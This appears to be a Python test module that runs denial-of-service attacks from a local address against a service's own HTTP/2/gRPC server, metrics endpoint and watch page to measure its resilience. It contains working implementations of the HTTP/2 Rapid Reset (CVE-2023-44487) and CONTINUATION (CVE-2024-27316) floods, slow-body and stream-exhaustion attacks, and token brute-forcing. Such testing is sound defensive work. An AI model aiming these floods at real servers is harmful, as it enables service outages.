"""Attacks from one host, most of them without a token.

Each attack is a function of the master and of the attack's end time. It returns figures that are printed next
to the measurements.
"""

import socket
import struct
import threading
import time

from good_job import Reporter
from http2 import (CONTINUATION, DATA, END_HEADERS, END_STREAM, GET_JOB, HEADERS, RST_STREAM,
                   STREAM_EVENTS, WINDOW_UPDATE, field, frame, grpc_message,
                   integer, remembered, request)

EVIL = "127.0.0.2"


def again_and_again(master, until, attack):
    """Repeats an attack on a new connection after each disconnection."""
    connections = 0
    while time.monotonic() < until:
        try:
            connections += 1
            connection = master.connect(EVIL)
            connection.socket.settimeout(max(0.1, until - time.monotonic()))
            connection.greet()
            attack(connection, until)
            connection.close()
        except OSError:
            time.sleep(0.01)
    return connections


def in_parallel(count, *works):
    threads = [threading.Thread(target=work) for work in works * count]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def idle(count):
    """Opens and closes connections without sending anything."""
    def attack(master, until):
        connections = []
        refused = 0
        for _ in range(count):
            try:
                one = socket.socket()
                one.bind((EVIL, 0))
                one.settimeout(2)
                one.connect(master.address)
                connections.append(one)
            except OSError:
                refused += 1
        time.sleep(max(0, until - time.monotonic()))
        for one in connections:
            one.close()
        return {"connections": len(connections)}
    return attack


def reset_flood(master, until):
    """Starts calls and immediately resets them (CVE-2023-44487)."""
    block = 500

    def flood(connection, end):
        stream = 1
        connection.send(frame(HEADERS, END_HEADERS, stream,
                              request(STREAM_EVENTS, remember=True)))
        headers = remembered()
        while time.monotonic() < end:
            data = b""
            for _ in range(block):
                stream += 2
                data += frame(HEADERS, END_HEADERS, stream, headers)
                data += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
            connection.send(data)
            sent.append(block)

    sent = []
    connections = again_and_again(master, until, flood)
    return {"connections": connections, "calls": sum(sent)}


def header_flood(master, until, begin, more):
    """Begins headers, and then sends more of them without an end."""
    def flood(connection, end):
        connection.send(frame(HEADERS, 0, 1, begin))
        while time.monotonic() < end:
            connection.send(more)
            sent.append(len(more))

    sent = []
    connections = again_and_again(master, until, flood)
    return {"connections": connections, "mb": sum(sent) / 1e6}


def continuation_flood(master, until):
    """Sends headers without an end (CVE-2024-27316)."""
    filler = b"".join(b"\x00\x01x" + integer(1000, 7) + b"y" * 1000 for _ in range(16))

    return header_flood(master, until, request(GET_JOB), frame(CONTINUATION, 0, 1, filler) * 8)


def split_literals(master, until):
    """Sends one long header in many small frames."""
    begin = request(GET_JOB) + b"\x00\x01x" + integer(1 << 27, 7)
    return header_flood(master, until, begin, frame(CONTINUATION, 0, 1, b"y" * 100) * 100)


def open_calls(master, until):
    """Starts calls without sending their messages."""
    opened = []

    def open_many(connection, end):
        stream = 1
        connection.send(frame(HEADERS, END_HEADERS, stream, request(GET_JOB, remember=True)))
        headers = remembered()
        for _ in range(100):
            data = b""
            for _ in range(100):
                stream += 2
                data += frame(HEADERS, END_HEADERS, stream, headers)
            connection.send(data)
            opened.append(100)
        while time.monotonic() < end:
            connection.read_frame()

    in_parallel(6, lambda: again_and_again(master, until, open_many))
    return {"calls": sum(opened)}


def slow_bodies(master, until):
    """Sends messages of 4 MB without their last byte, in 300 calls."""
    size = (4 << 20) - 100
    begun = []

    def send_slowly(connection, end):
        left = {}
        window = {}
        of_connection = 65535
        for stream in range(1, 200, 2):
            connection.send(frame(HEADERS, END_HEADERS, stream, request(GET_JOB)))
            connection.send(frame(DATA, 0, stream, b"\0" + struct.pack(">I", size + 1)))
            of_connection -= 5
            left[stream], window[stream] = size, 65535 - 5
            begun.append(1)
        while time.monotonic() < end:
            for stream, more in left.items():
                while more and window[stream] and of_connection:
                    part = min(more, window[stream], of_connection, 16384)
                    connection.send(frame(DATA, 0, stream, b"y" * part))
                    more -= part
                    window[stream] -= part
                    of_connection -= part
                left[stream] = more
            kind, _, stream, payload = connection.read_frame()
            if kind == WINDOW_UPDATE and stream:
                window[stream] = window.get(stream, 0) + struct.unpack(">I", payload)[0]
            elif kind == WINDOW_UPDATE:
                of_connection += struct.unpack(">I", payload)[0]

    in_parallel(6, lambda: again_and_again(master, until, send_slowly))
    return {"calls": len(begun)}


def token_guesses(master, until):
    """Calls with a different wrong token each time."""
    guesses = []

    def guess(connection, end):
        stream = -1
        while time.monotonic() < end:
            for _ in range(50):
                stream += 2
                connection.send(
                    frame(HEADERS, END_HEADERS, stream,
                          request(GET_JOB, f"guess-number-{stream:09}")) +
                    frame(DATA, END_STREAM, stream, grpc_message(field(1, "good"))))
            answers = 0
            while answers < 50:
                kind, flags, _, _ = connection.read_frame()
                answered = kind == HEADERS and flags & END_STREAM
                answers += answered
                guesses.extend([1] * answered)

    began = time.monotonic()
    in_parallel(2, lambda: again_and_again(master, until, guess))
    return {"guesses_per_s": len(guesses) / (time.monotonic() - began)}


def scrape(master):
    """Returns the duration of a request of /metrics, with a timeout of half a minute."""
    began = time.monotonic()
    try:
        with socket.create_connection(master.metrics, 30) as one:
            one.sendall(b"GET /metrics HTTP/1.1\r\nHost: master\r\nConnection: close\r\n\r\n")
            answer = b""
            while more := one.recv(1 << 16):
                answer += more
        assert b" 200 OK" in answer.split(b"\r\n")[0], answer[:100]
    except TimeoutError:
        pass
    return time.monotonic() - began


def idle_metrics(master, until):
    """Opens connections to /metrics that send nothing or half a request."""
    idle_ones = [socket.create_connection(master.metrics) for _ in range(40)]
    for one in idle_ones[::2]:
        one.sendall(b"GET /metrics HTTP/1.1\r\nHost: ")
    time.sleep(0.2)
    took = scrape(master)
    time.sleep(max(0, until - time.monotonic()))
    for one in idle_ones:
        one.close()
    return {"scrape_s": took}


class LargeJob:
    """Reports a job of many stages with changing tasks until it is closed. Has a token."""

    AT_ONCE = 250  # Number of stages per message, which fits into the window of a new stream.

    def __init__(self, master, job_id, stages):
        self.stages = stages
        self.reporter = Reporter(master, job_id)
        self.reporter.send(field(1, field(1, "large job")))
        for first in range(0, stages, self.AT_ONCE):
            self.reporter.send(*(
                field(3, field(1, k) + field(3, f"stage number {k} of a large job") + field(7, 3) +
                      field(8, 4)) for k in range(first, first + self.AT_ONCE)))
        self.closing = threading.Event()
        self.thread = threading.Thread(target=self._report)
        self.thread.start()

    def close(self):
        self.closing.set()
        self.thread.join()
        self.reporter.connection.close()

    def _report(self):
        task = 0
        try:
            while not self.closing.wait(0.05):
                events = []
                for _ in range(40):
                    attempt = field(1, task % self.stages) + field(2, task // self.stages % 4)
                    events.append(field(5, field(1, attempt) + field(2, 2)))
                    task += 1
                self.reporter.send(*events)
        except OSError:
            pass


def page_readers(master, until):
    """Opens fifteen pages that read a job of 10,000 stages, and fifteen that never read. Has a token."""
    job = LargeJob(master, "large", 10_000)
    time.sleep(1)
    read = []

    def page(reads):
        with socket.create_connection(master.page, 20) as raw, \
                master.page_context().wrap_socket(raw, server_hostname="127.0.0.1") as one:
            one.sendall((f"GET /api/jobs/large/watch HTTP/1.1\r\nHost: 127.0.0.1:{master.page[1]}\r\n"
                         f"Authorization: Bearer {master.token}\r\n\r\n").encode())
            one.settimeout(1)
            while time.monotonic() < until:
                try:
                    if reads:
                        read.append(len(one.recv(1 << 20)))
                    else:
                        time.sleep(0.1)
                except TimeoutError:
                    pass

    in_parallel(15, lambda: page(True), lambda: page(False))
    job.close()
    return {"mb_read": sum(read) / 1e6}
